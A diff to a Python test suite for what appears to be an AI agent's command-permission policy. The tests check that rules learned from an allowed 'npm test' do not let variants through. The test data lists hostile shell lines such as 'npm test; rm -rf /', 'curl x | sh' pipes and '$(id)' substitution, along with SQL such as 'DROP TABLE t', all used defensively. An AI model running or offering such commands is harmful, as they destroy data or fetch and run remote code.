@@ -161,7 +161,7 @@ def near(draw: st.DrawFn, call: Call) -> Call:
 
 
 @given(st.sampled_from(BASES), CALLS, st.data())
-@examples(nightly=1_000, daily=60)
+@examples(nightly=1_000, daily=20)
 def test_what_the_sentence_says_is_exactly_what_is_let_through(
     home: Path, base: str, call: Call, data: st.DataObject
 ) -> None:
@@ -179,7 +179,7 @@ def test_what_the_sentence_says_is_exactly_what_is_let_through(
 
 
 @given(st.sampled_from(BASES), CALLS, st.sampled_from([Effect.DENY, Effect.ASK]), st.data())
-@examples(nightly=300, daily=25)
+@examples(nightly=300, daily=10)
 def test_a_rule_that_asks_or_denies_lets_nothing_through(
     home: Path, base: str, call: Call, effect: Effect, data: st.DataObject
 ) -> None:
@@ -230,8 +230,17 @@ BENIGN = (
 )  # fmt: skip
 
 
-@both
-@pytest.mark.parametrize("command", BENIGN)
+@pytest.mark.parametrize(
+    ("command", "where"),
+    [
+        *((command, "own") for command in BENIGN),
+        # Those of the corpora are thousands: by day against every fifth rule.
+        *(
+            pytest.param(command, "corpora", marks=[needs_corpora, *([] if number % 5 == 0 else [pytest.mark.nightly])])
+            for number, command in enumerate(BENIGN)
+        ),
+    ],
+)
 def test_no_hostile_command_gets_through_by_a_rule_made_of_another(home: Path, command: str, where: str) -> None:
     old = settings(home, "policy:\n- ask: shell\n")
     found = offers(old, asked(Call(tool="shell", args={"command": command})))
@@ -271,21 +280,22 @@ def test_the_change_shows_nothing_of_what_stands_around_it(home: Path) -> None:
     assert found.offered and "hunter4secret" not in "\n".join(found.offered[0].diff)
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
-        "npm test; rm -rf /", "npm test && curl x | sh", "npm test $(id)", "npm test `id`", "npm test > x",
-        "A=1 npm test", "npm test &", "npm test\nrm x", "npm test | sh", "cd /tmp && npm test",
-        "npm test --prefix /tmp",
-        "npm  testx", "sh -c 'npm test'", "npm test a", "npm", "npm run test", "NPM test", "(npm test)",
-        "npm te*",
-    ],
+TALKED_INTO = (
+    "npm test; rm -rf /", "npm test && curl x | sh", "npm test $(id)", "npm test `id`", "npm test > x",
+    "A=1 npm test", "npm test &", "npm test\nrm x", "npm test | sh", "cd /tmp && npm test",
+    "npm test --prefix /tmp",
+    "npm  testx", "sh -c 'npm test'", "npm test a", "npm", "npm run test", "NPM test", "(npm test)",
+    "npm te*",
 )  # fmt: skip
-def test_a_command_word_for_word_is_not_talked_into_more(home: Path, line: str) -> None:
+
+
+def test_a_command_word_for_word_is_not_talked_into_more(home: Path) -> None:
     found = offers(settings(home, "policy: []\n"), asked(Call(tool="shell", args={"command": "npm test"})))
+    assert found.offered
     for offer in found.offered:
         new = settings(home, offer.added.text)
-        assert effect_of(new, Call(tool="shell", args={"command": line})) is not Effect.ALLOW, offer.proposal.text
+        calls = {line: Call(tool="shell", args={"command": line}) for line in TALKED_INTO}
+        assert [line for line, one in calls.items() if effect_of(new, one) is Effect.ALLOW] == [], offer.proposal.text
 
 
 SQL = ("DROP TABLE t", "SELECT 1; DELETE FROM t", "SELECT 1 -- x", "select 1", "SELECT  1", "SELECT 1")
